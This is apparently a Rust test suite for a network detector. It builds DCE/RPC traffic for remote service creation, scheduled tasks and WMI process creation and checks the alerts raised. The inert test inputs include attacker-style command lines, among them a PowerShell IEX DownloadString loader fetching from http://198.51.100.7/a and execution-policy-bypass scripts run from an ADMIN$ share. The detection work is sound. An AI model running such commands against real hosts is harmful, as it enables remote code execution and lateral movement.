//! Each detection beside the nearest thing that is none. Payloads are inert.

use std::sync::Arc;

use backstop_protocols::testing::Script;
use backstop_types::{Direction, Fields};

use crate::testing::{Flow, object, text};
use crate::{Correlator, DetectConfig, Finding, Outcome};

/// A conversation over TCP: a bind to an interface, then calls in NDR.
struct Talk {
    script: Script,
    call_id: u8,
    /// Level of protection; 0 is none.
    level: u8,
}

fn uuid(of: u128) -> Vec<u8> {
    let bytes = of.to_be_bytes();
    let order = [3, 2, 1, 0, 5, 4, 7, 6, 8, 9, 10, 11, 12, 13, 14, 15];
    order.iter().map(|at| bytes[*at]).collect()
}

impl Talk {
    fn to(interface: u128, level: u8) -> Self {
        let mut talk = Self { script: Vec::new(), call_id: 1, level };
        let ndr = uuid(0x8a88_5d04_1ceb_11c9_9fe8_0800_2b10_4860);
        let contexts = [&[1, 0, 0, 0, 0, 0, 1, 0][..], &uuid(interface), &[1, 0, 0, 0], &ndr, &[2, 0, 0, 0]].concat();
        talk.pdu(Direction::ToServer, 11, &[&[0xb8, 0x10, 0xb8, 0x10, 0, 0, 0, 0][..], &contexts].concat());
        let results = [&[1, 0, 0, 0, 0, 0, 0, 0][..], &ndr, &[2, 0, 0, 0]].concat();
        talk.pdu(Direction::ToClient, 12, &[&[0xb8, 0x10, 0xb8, 0x10, 1, 0, 0, 0, 0, 0, 0, 0][..], &results].concat());
        talk
    }

    fn pdu(&mut self, direction: Direction, kind: u8, body: &[u8]) {
        let mut bytes = vec![5, 0, kind, 3, 0x10, 0, 0, 0, 0, 0, 0, 0, self.call_id, 0, 0, 0];
        bytes.extend_from_slice(body);
        if self.level > 0 {
            // A verifier of NTLM: its value says nothing here.
            let pad = bytes.len().next_multiple_of(4) - bytes.len();
            bytes.resize(bytes.len() + pad, 0);
            bytes.extend([10, self.level, pad as u8, 0, 0, 0, 0, 0]);
            bytes.extend([7; 16]);
            bytes[10] = 16;
        }
        let len = u16::try_from(bytes.len()).unwrap().to_le_bytes();
        bytes[8..10].copy_from_slice(&len);
        self.script.push((direction, bytes));
    }

    fn request(&mut self, opnum: u8, stub: &[u8]) {
        self.call_id += 1;
        let head = [0, 2, 0, 0, 0, 0, opnum, 0];
        self.pdu(Direction::ToServer, 0, &[&head[..], stub].concat());
    }

    fn response(&mut self, stub: &[u8]) {
        self.pdu(Direction::ToClient, 2, &[&[0, 2, 0, 0, 0, 0, 0, 0][..], stub].concat());
    }

    fn call(&mut self, opnum: u8, stub: &Stub, answer: &[u8]) {
        self.request(opnum, &stub.0);
        self.response(answer);
    }
}

/// A stub in NDR, little-endian.
#[derive(Default)]
struct Stub(Vec<u8>);

impl Stub {
    fn handle(mut self, id: u8) -> Self {
        self.0.extend([0; 4]);
        self.0.extend([id; 16]);
        self
    }

    fn number(mut self, value: u32) -> Self {
        self.0.resize(self.0.len().next_multiple_of(4), 0);
        self.0.extend(value.to_le_bytes());
        self
    }

    fn string(mut self, text: &str) -> Self {
        let units: Vec<u16> = text.encode_utf16().chain([0]).collect();
        let len = u32::try_from(units.len()).unwrap();
        self = self.number(len).number(0).number(len);
        self.0.extend(units.into_iter().flat_map(u16::to_le_bytes));
        self
    }

    fn unique(self, text: &str) -> Self {
        self.number(0x20_000).string(text)
    }
}

fn created(id: u8, code: u32) -> Vec<u8> {
    [&[0; 4][..], &Stub::default().handle(id).number(code).0].concat()
}

fn creation(name: &str, binary: &str) -> Stub {
    let stub = Stub::default().handle(1).string(name).number(0).number(0xf01ff).number(0x10).number(3).number(0).string(binary);
    // Group, tag, dependencies, their size, account, password, its size.
    (0..7).fold(stub, |stub, _| stub.number(0))
}

const SERVICES: u128 = 0x367a_bb81_9844_35f1_ad32_98f0_3800_1003;
const TASKS: u128 = 0x86d3_5949_83c9_4044_b424_db36_3231_fd0c;
const ATSVC: u128 = 0x1ff7_0682_0a51_30e8_076d_740b_e8ce_e98b;

fn replayed(config: DetectConfig, script: &Script) -> Flow {
    let mut flow = Flow::new(config);
    flow.server.port = 49_672;
    flow.replay_script(script, 1_460);
    flow
}

fn told(flow: &Flow) -> Vec<(u64, u8, Outcome)> {
    let severity = |finding: &Finding| finding.severity.unwrap_or_else(|| finding.meta.severity());
    let alone = flow.out.findings.iter().filter(|finding| !finding.update);
    alone.map(|finding| (finding.meta.sid(), severity(finding), finding.outcome)).collect()
}

fn arguments(finding: &Finding) -> Fields {
    object(&object(&finding.context, "dcerpc"), "arguments")
}

fn service(binary: &str) -> Script {
    let mut talk = Talk::to(SERVICES, 0);
    talk.call(12, &creation("UpdA", binary), &created(9, 0));
    talk.script
}

#[test]
fn a_service_is_told_with_its_program_and_how_the_call_ended() {
    let flow = replayed(DetectConfig::default(), &service(r"C:\Windows\UPDSVC.exe -k"));
    assert_eq!(told(&flow), [(9_404_003, 2, Outcome::Success)]);
    let finding = flow.alerts(9_404_003)[0];
    let of = arguments(finding);
    assert_eq!((text(&of, "service"), text(&of, "binary_path")), ("UpdA".to_owned(), r"C:\Windows\UPDSVC.exe -k".to_owned()));
    let record = object(&finding.context, super::RECORD);
    assert_eq!((text(&record, "request"), text(&record, "response")), ("REQUEST".to_owned(), "RESPONSE".to_owned()));
    assert_eq!(finding.excerpt, br"C:\Windows\UPDSVC.exe -k");
}

#[test]
fn an_interpreter_and_content_raise_it() {
    assert_eq!(told(&replayed(DetectConfig::default(), &service("%COMSPEC% /C echo a"))), [(9_404_003, 1, Outcome::Success)]);
    let flow = replayed(
        DetectConfig::default(),
        &service(r"powershell -noni -nop -exe bypass -f \\10.20.30.10\ADMIN$\temp\nFcv5ke38cnE.ps1"),
    );
    assert_eq!(told(&flow), [(9_404_003, 1, Outcome::Success), (9_403_005, 1, Outcome::Success)]);
    let content = flow.alerts(9_403_005)[0];
    assert_eq!(text(&arguments(content), "service"), "UpdA");
}

#[test]
fn a_refused_call_is_an_attempt_and_one_without_answer_unknown() {
    let mut talk = Talk::to(SERVICES, 0);
    talk.call(12, &creation("UpdA", "a.exe"), &created(0, 5));
    assert_eq!(told(&replayed(DetectConfig::default(), &talk.script)), [(9_404_003, 2, Outcome::Attempt)]);
    let mut talk = Talk::to(SERVICES, 0);
    talk.request(12, &creation("UpdA", "a.exe").0);
    assert_eq!(told(&replayed(DetectConfig::default(), &talk.script)), [(9_404_003, 2, Outcome::Unknown)]);
}

#[test]
fn the_start_of_a_service_is_part_of_its_alert() {
    let mut talk = Talk::to(SERVICES, 0);
    talk.call(12, &creation("UpdA", "a.exe"), &created(9, 0));
    talk.call(19, &Stub::default().handle(9).number(0).number(0), &1_053_u32.to_le_bytes());
    let flow = replayed(DetectConfig::default(), &talk.script);
    assert_eq!(told(&flow), [(9_404_003, 2, Outcome::Success)]);
    let call = object(&flow.alerts(9_404_003)[0].context, "dcerpc");
    assert_eq!(crate::testing::number(&call, "start_code"), Some(1_053));
    // Another service's start says nothing of it.
    let mut talk = Talk::to(SERVICES, 0);
    talk.call(12, &creation("UpdA", "a.exe"), &created(9, 0));
    talk.call(19, &Stub::default().handle(8).number(0).number(0), &[0; 4]);
    let flow = replayed(DetectConfig::default(), &talk.script);
    assert!(object(&flow.alerts(9_404_003)[0].context, "dcerpc").get("started").is_none());
}

#[test]
fn a_new_program_of_a_service_is_told_and_a_new_start_type_is_not() {
    let change = |binary: Option<&str>| {
        let stub = Stub::default().handle(4).number(u32::MAX).number(2).number(u32::MAX);
        let stub = binary.map_or_else(|| Stub(stub.0.clone()).number(0), |binary| Stub(stub.0.clone()).unique(binary));
        let mut talk = Talk::to(SERVICES, 0);
        talk.call(16, &Stub::default().handle(1).string("Spooler").number(0xf01ff), &Stub::default().handle(4).number(0).0);
        talk.call(11, &(0..8).fold(stub, |stub, _| stub.number(0)), &[0; 8]);
        talk.call(19, &Stub::default().handle(4).number(0).number(0), &[0; 4]);
        replayed(DetectConfig::default(), &talk.script)
    };
    let flow = change(Some("cmd.exe /c echo a"));
    assert_eq!(told(&flow), [(9_404_003, 1, Outcome::Success)]);
    assert_eq!(object(&flow.alerts(9_404_003)[0].context, "dcerpc").get("started"), Some(&true.into()));
    assert_eq!(told(&change(None)), []);
}

fn task(arguments: &str) -> Script {
    let xml =
        format!("<Task><Actions><Exec><Command>agent.exe</Command><Arguments>{arguments}</Arguments></Exec></Actions></Task>");
    let mut talk = Talk::to(TASKS, 0);
    talk.call(1, &Stub::default().unique("\\RepA").string(&xml).number(2).number(0).number(3).number(0).number(0), &[0; 4]);
    talk.call(12, &Stub::default().string("\\RepA").number(0).number(0).number(0).number(0).number(0), &[0; 20]);
    talk.script
}

#[test]
fn a_task_is_told_with_its_actions_and_its_run() {
    let flow = replayed(DetectConfig::default(), &task("-report"));
    assert_eq!(told(&flow), [(9_404_004, 2, Outcome::Success)]);
    let finding = flow.alerts(9_404_004)[0];
    assert_eq!(text(&arguments(finding), "path"), "\\RepA");
    assert_eq!(object(&finding.context, "dcerpc").get("started"), Some(&true.into()));
    let flow = replayed(DetectConfig::default(), &task("&amp; cmd.exe /c a"));
    assert_eq!(told(&flow), [(9_404_004, 1, Outcome::Success)]);
}

#[test]
fn a_job_of_the_old_scheduler_is_told() {
    let mut talk = Talk::to(ATSVC, 0);
    let stub = Stub::default().number(0).number(1_000).number(0).number(0).number(0x20_000).string("cmd /c whoami");
    talk.call(0, &stub, &[1, 0, 0, 0, 0, 0, 0, 0]);
    assert_eq!(told(&replayed(DetectConfig::default(), &talk.script)), [(9_404_004, 1, Outcome::Success)]);
}

#[test]
fn sealed_calls_are_suspected_by_their_number() {
    for (interface, opnum, sid) in [(SERVICES, 12, 9_404_003), (TASKS, 1, 9_404_004), (ATSVC, 0, 9_404_004)] {
        let mut talk = Talk::to(interface, 6);
        talk.request(opnum, &[0x5a; 64]);
        talk.response(&[0x5a; 24]);
        let flow = replayed(DetectConfig::default(), &talk.script);
        assert_eq!(told(&flow), [(sid, 3, Outcome::Unknown)]);
        let finding = flow.alerts(sid)[0];
        let call = object(&finding.context, "dcerpc");
        assert!(finding.suspected && text(&call, "not_visible").contains("sealed"), "{call:?}");
        // The number says it, whoever the server is; and a listed host may.
        assert_eq!(replayed(DetectConfig::default(), &talk.script).admitted_sids(), [sid]);
        let known = DetectConfig { known_clients: vec!["10.20.30.77/32".parse().unwrap()], ..DetectConfig::default() };
        assert_eq!(told(&replayed(known, &talk.script)), []);
        // A sealed question is none.
        let mut talk = Talk::to(interface, 6);
        talk.request(15, &[0x5a; 64]);
        assert_eq!(told(&replayed(DetectConfig::default(), &talk.script)), []);
    }
}

#[test]
fn administration_is_silent_until_its_content_says_otherwise() {
    let known = || DetectConfig { known_clients: vec!["10.20.30.77/32".parse().unwrap()], ..DetectConfig::default() };
    assert_eq!(told(&replayed(known(), &service("cmd.exe /c deploy"))), []);
    assert_eq!(told(&replayed(known(), &task("-report"))), []);
    let loader = service("powershell -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')");
    assert_eq!(told(&replayed(known(), &loader))[0], (9_404_003, 1, Outcome::Success));
    // A backup server that installs its transport on its agents.
    let mut config = DetectConfig { backup_servers: vec!["10.20.30.77/32".parse().unwrap()], ..DetectConfig::default() };
    config.smb.agents = vec!["10.20.30.0/24".parse().unwrap()];
    assert_eq!(told(&replayed(config, &service(r"C:\Windows\Veeam\Backup\VeeamDeploymentSvc.exe"))), []);
    // Questions, and handles opened for them.
    let mut talk = Talk::to(SERVICES, 0);
    talk.call(15, &Stub::default().number(0).number(0).number(5), &Stub::default().handle(1).number(0).0);
    talk.call(16, &Stub::default().handle(1).string("Spooler").number(4), &Stub::default().handle(4).number(0).0);
    talk.call(6, &Stub::default().handle(4), &[0; 32]);
    talk.call(19, &Stub::default().handle(4).number(0).number(0), &[0; 4]);
    assert_eq!(told(&replayed(DetectConfig::default(), &talk.script)), []);
}

#[test]
fn many_calls_are_counted_beyond_what_a_flow_may_tell() {
    let mut talk = Talk::to(SERVICES, 0);
    for number in 0..100 {
        talk.call(12, &creation(&format!("S{number}"), "a.exe"), &created(9, 0));
        talk.call_id &= 0x7f;
    }
    let flow = replayed(DetectConfig::default(), &talk.script);
    assert_eq!(told(&flow).len(), DetectConfig::default().max_per_flow);
    let update = flow.out.findings.iter().find(|finding| finding.update).unwrap();
    let counts = object(&update.context, "dcerpc");
    assert_eq!(crate::testing::number(&counts, "count"), Some(100));
}

const WBEM_LOGIN: u128 = 0xf309_ad18_d86a_11d0_a075_00c0_4fb6_8820;
const WBEM_SERVICES: u128 = 0x9556_dc99_828c_11cf_a37e_00aa_0032_40c7;
const ACTIVATOR: u128 = 0x0000_01a0_0000_0000_c000_0000_0000_0046;
const ACTIVATION: u128 = 0x4d9f_4ab8_7d1c_11cf_861e_0020_af6e_7c57;

/// A stub that another implementation wrote.
fn stub(interface: &str, opnum: u8) -> Vec<u8> {
    let head = format!("{interface} {opnum} ndr ");
    let all = include_str!("../../../protocols/src/dcerpc/calls/tests/stubs.txt");
    let line = all.lines().find_map(|line| line.strip_prefix(&head)).unwrap();
    data_encoding::HEXLOWER.decode(line.as_bytes()).unwrap()
}

fn on_backup_server() -> DetectConfig {
    DetectConfig { backup_servers: vec!["10.20.30.10/32".parse().unwrap()], ..DetectConfig::default() }
}

/// What a method returns in the clear: ORPCTHAT, no objects, and a code.
fn answered(code: u32) -> Vec<u8> {
    (0..4).fold(Stub::default(), |stub, _| stub.number(0)).number(code).0
}

#[test]
fn a_process_that_wmi_starts_is_told_with_its_command_line() {
    let mut talk = Talk::to(WBEM_SERVICES, 0);
    talk.request(24, &stub("IWbemServices", 24));
    talk.response(&answered(0));
    let flow = replayed(on_backup_server(), &talk.script);
    // The bind is no second cause.
    assert_eq!(told(&flow), [(9_404_005, 1, Outcome::Success)]);
    let finding = flow.alerts(9_404_005)[0];
    assert_eq!(finding.excerpt, b"cmd.exe /Q /c echo x");
    assert_eq!(text(&arguments(finding), "method"), "Create");
    let mut refused = Talk::to(WBEM_SERVICES, 0);
    refused.request(24, &stub("IWbemServices", 24));
    refused.response(&answered(0x8004_1003));
    assert_eq!(told(&replayed(on_backup_server(), &refused.script)), [(9_404_005, 1, Outcome::Attempt)]);
}

#[test]
fn questions_through_wmi_are_silent_and_known_clients_may_run_what_they_like() {
    let mut talk = Talk::to(WBEM_SERVICES, 0);
    for opnum in [20, 6] {
        talk.request(opnum, &stub("IWbemServices", opnum));
        talk.response(&answered(0));
    }
    // Who asks in the clear hides nothing.
    assert_eq!(told(&replayed(on_backup_server(), &talk.script)), []);
    talk.request(24, &stub("IWbemServices", 24));
    let known = DetectConfig { known_clients: vec!["10.20.30.77/32".parse().unwrap()], ..on_backup_server() };
    assert_eq!(told(&replayed(known, &talk.script)), []);
}

#[test]
fn a_sealed_method_and_an_activation_alone_are_suspected_on_a_backup_server() {
    let mut sealed = Talk::to(WBEM_SERVICES, 6);
    sealed.request(24, &[0x5a; 64]);
    let flow = replayed(on_backup_server(), &sealed.script);
    assert_eq!(told(&flow), [(9_404_005, 3, Outcome::Unknown)]);
    assert!(flow.alerts(9_404_005)[0].suspected);
    for (interface, name, opnum) in [(ACTIVATOR, "IRemoteSCMActivator", 4), (ACTIVATION, "IRemoteActivation", 0)] {
        let mut talk = Talk::to(interface, 0);
        talk.request(opnum, &stub(name, opnum));
        let flow = replayed(on_backup_server(), &talk.script);
        assert_eq!(told(&flow), [(9_404_005, 3, Outcome::Unknown)]);
        assert_eq!(text(&object(&flow.alerts(9_404_005)[0].context, "dcerpc"), "basis"), "activation");
        assert_eq!(flow.admitted_sids(), [9_404_005]);
        // Another server is told where nobody said which ones matter.
        assert_eq!(replayed(DetectConfig::default(), &talk.script).admitted_sids(), [9_404_005]);
        let others = DetectConfig { backup_servers: vec!["10.20.30.99/32".parse().unwrap()], ..DetectConfig::default() };
        assert_eq!(replayed(others, &talk.script).admitted_sids(), Vec::<u64>::new());
        let known = DetectConfig { known_clients: vec!["10.20.30.77/32".parse().unwrap()], ..on_backup_server() };
        assert_eq!(told(&replayed(known, &talk.script)), []);
    }
    // Monitoring: the object is activated on one connection, and asked in the clear on another. What is sealed stays suspected.
    let mut activation = Talk::to(ACTIVATOR, 0);
    activation.request(4, &stub("IRemoteSCMActivator", 4));
    let activation = replayed(on_backup_server(), &activation.script);
    for (level, expected) in [(0, vec![]), (6, vec![9_404_005])] {
        let mut question = Talk::to(WBEM_SERVICES, level);
        question.request(20, &stub("IWbemServices", 20));
        let question = replayed(on_backup_server(), &question.script);
        let mut correlator = Correlator::new(Arc::new(on_backup_server()));
        let mut admitted = question.admitted(&mut correlator);
        admitted.extend(activation.admitted(&mut correlator));
        assert_eq!(admitted.iter().map(|finding| finding.meta.sid()).collect::<Vec<_>>(), expected, "level {level}");
    }
    // A bind whose calls are sealed, and name no method that is known to run anything.
    let mut bound = Talk::to(WBEM_LOGIN, 6);
    bound.request(6, &[0x5a; 64]);
    assert_eq!(told(&replayed(on_backup_server(), &bound.script)), [(9_404_005, 3, Outcome::Unknown)]);
}

#[test]
fn calls_are_known_however_the_conversation_is_laid_out() {
    let mut talk = Talk::to(SERVICES, 0);
    talk.call(12, &creation("UpdA", "cmd /c a"), &created(9, 0));
    let usual = talk.script.clone();
    let at = |order: [usize; 4]| order.map(|at| usual[at].clone()).to_vec();
    // The client does not wait for the acknowledgement of its bind.
    let mut laid_out = vec![at([0, 2, 1, 3])];
    // Whole PDUs in fragments of eight bytes of arguments.
    let (head, stub) = usual[2].1.split_at(24);
    let pieces: Vec<&[u8]> = stub.chunks(8).collect();
    let mut fragments: Script = usual[..2].to_vec();
    for (number, piece) in pieces.iter().enumerate() {
        let mut pdu = [head, piece].concat();
        pdu[3] = u8::from(number == 0) | if number + 1 == pieces.len() { 2 } else { 0 };
        let len = u16::try_from(pdu.len()).unwrap().to_le_bytes();
        pdu[8..10].copy_from_slice(&len);
        fragments.push((Direction::ToServer, pdu));
    }
    fragments.push(usual[3].clone());
    laid_out.push(fragments);
    // For an object, whose UUID stands before the arguments.
    let mut object = usual.clone();
    let mut pdu = [&head[..24], &[9; 16], stub].concat();
    pdu[3] |= 0x80;
    let len = u16::try_from(pdu.len()).unwrap().to_le_bytes();
    pdu[8..10].copy_from_slice(&len);
    object[2].1 = pdu;
    laid_out.push(object);
    for script in laid_out {
        for piece in [1, 1_460] {
            let mut flow = Flow::new(DetectConfig::default());
            flow.replay_script(&script, piece);
            assert_eq!(told(&flow), [(9_404_003, 1, Outcome::Success)], "pieces of {piece}: {script:?}");
        }
    }
}

#[test]
fn a_class_that_is_derived_starts_processes_too() {
    let usual = stub("IWbemServices", 24);
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let (from, to) = (wide("Win32_Process"), wide("Own32_Anybody"));
    let at = usual.windows(from.len()).position(|part| part == from).unwrap();
    let mut derived = usual;
    derived[at..at + to.len()].copy_from_slice(&to);
    let mut talk = Talk::to(WBEM_SERVICES, 0);
    talk.request(24, &derived);
    assert_eq!(told(&replayed(on_backup_server(), &talk.script)), [(9_404_005, 1, Outcome::Unknown)]);
}
